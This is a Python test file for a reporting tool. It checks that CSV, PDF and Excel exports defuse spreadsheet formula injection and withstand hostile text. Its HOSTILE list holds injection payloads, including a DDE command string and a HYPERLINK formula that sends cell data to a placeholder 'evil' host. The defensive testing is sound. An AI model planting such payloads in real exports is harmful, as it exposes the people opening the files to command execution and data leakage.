"""Texts of others in spreadsheets, PDFs and terminals: no formula, nothing that breaks what shows them."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from haidang_collector.inventory import export
from haidang_collector.outage.cause import Cause, Kind
from haidang_collector.outage.model import Outage
from haidang_collector.outage.sla import Figures
from haidang_collector.plan.figures import FIGURES
from haidang_collector.printable import MOST, CsvWriter, cell, plain
from haidang_collector.registry.file import load_registry
from haidang_collector.reports import pdf as pages
from haidang_collector.reports import plan
from haidang_collector.reports import sla as months
from hypothesis import example, given
from hypothesis import strategies as st
from pypdf import PdfReader

from tests.conftest import REGISTRY

FORMULA = tuple("=+-@＝＋－＠\t\r\n")
HOSTILE = [
    "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "x;=1+1", "x;  =1+1",
    'x;"=1+1', '";=1+1', '"=1+1', "'=1+1", "x\n=1+1", "x\r\n=1+1;@y", "x,=1+1", "x\t=1+1", 'a";"=1+1', ';";"";=1+1',
    "x;＝1+1", "＋1", "－1", "＠x", '=HYPERLINK("http://evil/?"&A1)', "\ufeff=1", "a\x00;=1", "\u202e=1", ";;;=1",
    '"' * 50 + "=1", "x|=1", "\ufffe=1", ';"', 'a;"b', ";'=1", "\xa0=1", "x;\u2003@y", "\ud800=1", "x\x85=1", "\x0b=1", "",
]  # fmt: skip
HONEST = [
    "MÁY-01", "Microsoft Visual C++ 2015-2022", "24\" LCD", "a = b", "10.0.0.1, 10.0.0.2", "Nguyễn Văn A; Trần B", "1-2",
    "it's", "C:\\=x",
]  # fmt: skip
# What is no delimiter of the file, and what a program may take for one all the same.
DIALECTS = [
    {"delimiter": delimiter, "quoting": quoting}
    for delimiter in ",;\t|"
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)
]


def cells(text: str, delimiter: str, quoting: int) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting))  # type: ignore[arg-type]


def written(*rows: list[object]) -> str:
    text = io.StringIO(newline="")
    writer = CsvWriter(text)
    for row in rows:
        writer.row(row)
    return text.getvalue()


def no_formula(text: str) -> None:
    """However a program splits it, and whether or not it drops spaces, quotes and marks around a cell."""
    for dialect in DIALECTS:
        for row in cells(text, **dialect):  # type: ignore[arg-type]
            for value in row:
                assert not value.startswith(FORMULA), (dialect, row)
                assert not value.strip(' \xa0\u2003"').startswith(FORMULA), (dialect, row)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_with_a_formula(text: str) -> None:
    no_formula(written(["id", "name", "other"], [1, text, "x"], [2, "x", text], [3, text, text]))


@given(st.lists(st.text(alphabet="=+-@;,|\"' \t\r\n\x00xＡ＝", max_size=12), min_size=1, max_size=4))
@example([";", "=1"])
@example(['";', '=1"'])
def test_no_row_of_texts_makes_a_formula(texts: list[str]) -> None:
    no_formula(written([1, *texts, 2], [3, *reversed(texts)]))
    assert len(cells(written([1, *texts, 2]), ",", csv.QUOTE_MINIMAL)) == 1


@pytest.mark.parametrize("text", HONEST)
def test_honest_texts_and_numbers_stay_as_they_are(text: str) -> None:
    assert cells(written([text, -5.5, 7, "end"]), ",", csv.QUOTE_MINIMAL) == [[text, "-5.5", "7", "end"]]


def test_what_is_said_survives_the_mark() -> None:
    for text in HOSTILE:
        (row,) = cells(written([1, text]), ",", csv.QUOTE_MINIMAL)
        assert row[1].replace("'", "") == plain(text).replace("'", "")


def test_long_texts_cost_no_time_and_are_cut() -> None:
    began = time.process_time()
    for text in (";" * 10_000_000, "\"'" * 5_000_000, " ;=" * 1_000_000):
        assert len(str(cell(text))) < 2 * MOST
    assert time.process_time() - began < 20
    assert plain("x" * 10, 4) == "xxx…"


MACHINE = {
    "id": 1, "site": "ttdl", "chassis": "laptop", "support_ends": None, "memory_bytes": 2**33, "disk_bytes": None,
    "least_free_ratio": 0.5, "disks_failing": 0, "antivirus_on": True, "encrypted": None, "updates_pending": 3,
    "agent": "may-1", "first_seen": 1e9, "last_seen": 1e9, "claims": None, "dispute": "",
}  # fmt: skip


def test_machines_of_any_name_are_exported(tmp_path: Path) -> None:
    rows = []
    for text in HOSTILE:
        texts = dict.fromkeys(("name", "manufacturer", "model", "serial", "system", "version"), text)
        rows.append(export.row({**MACHINE, **texts}, "vi"))
    text = written([*export.titles("vi")], *([*row] for row in rows))
    no_formula(text)
    text.encode()
    read = cells(text, ",", csv.QUOTE_MINIMAL)
    assert {len(row) for row in read} == {21}
    assert len(read) == len(HOSTILE) + 1


def month() -> months.Report:
    registry = load_registry(REGISTRY)
    long = "tuyến" * 5000
    circuits = [
        circuit.model_copy(update={"carrier_circuit_id": HOSTILE[number % len(HOSTILE)] or long})
        for number, circuit in enumerate(registry.circuits * 20)
    ]
    carriers = [each.model_copy(update={"name": (HOSTILE[2] + long)[:200]}) for each in registry.carriers]
    province = registry.province.model_copy(update={"name": "\x00Tỉnh\u202e" + "W" * 190})
    registry = registry.model_copy(update={"circuits": circuits, "carriers": carriers, "province": province})
    figures = [
        Figures("circuit", circuit.id, circuit.carrier, 0, 0.0, 3600.0, 7200.0, circuit.sla_availability_ratio)
        for circuit in circuits
    ]
    everywhere = tuple(f"{circuit.id}-{number}" for number, circuit in enumerate(circuits))
    outage = Outage("o", "site", "ttdl", "", 1e9, everywhere, {"ttdl"}, cause=Cause(Kind.UNKNOWN, ()), ended=1e9 + 60)
    return months.Report(registry, "2026-10", figures, [(outage, 5)], 0.9)


def test_a_carrier_s_report_holds_any_text() -> None:
    made = month()
    no_formula(months.as_csv(made))
    for language in months.LANGUAGES:
        assert PdfReader(io.BytesIO(months.as_pdf(made, language))).pages
        assert "\x00" not in months.table(made, language)


def test_a_page_holds_any_text() -> None:
    long = ["W" * 100_000, "a" * 5000, "ạ" * 5000, "😀" * 400, "字" * 400, "\u0301" * 500, " " * 9999, "א" * 400]
    texts = [*HOSTILE, *long]
    pdf = pages.begin("W" * 9000, "\ud800" + "x" * 9000)
    pages.heading(pdf, "\x00" + "h" * 9000)
    for text in texts:
        pages.paragraph(pdf, text)
    pages.table(pdf, ["n", *("text" for _ in range(8))], [[str(n), *[text] * 8] for n, text in enumerate(texts)])
    pages.table(pdf, texts[:9], [["x"] * 9])
    assert len(PdfReader(io.BytesIO(bytes(pdf.output()))).pages) > 1


def test_a_workbook_holds_any_text(tmp_path: Path) -> None:
    registry = load_registry(REGISTRY)
    sites = [registry.sites[0].model_copy(update={"id": f"s{n}", "name": text}) for n, text in enumerate(HOSTILE)]
    registry = registry.model_copy(update={"sites": sites})
    days = ["2026-10-01"]
    shown = {figure: {"2026-10-01": 0.5} for figure in FIGURES}
    by_site = {(site.id, "fiber"): 0.0 for site in sites}
    made = plan.Report(registry, "2026-10", days, shown, {}, by_site)
    for language in plan.LANGUAGES:
        data = plan.as_xlsx(made, language)
        for name in (archive := zipfile.ZipFile(io.BytesIO(data))).namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(archive.read(name))
        book = openpyxl.load_workbook(io.BytesIO(data))
        assert {each.data_type for sheet in book for row in sheet for each in row if each.value is not None} <= {
            "s",
            "n",
        }
        found = [row[0].value or "" for row in book.worksheets[-1]][1:]
        assert found == [plain(text) for text in HOSTILE]
        assert PdfReader(io.BytesIO(plan.as_pdf(made, language))).pages
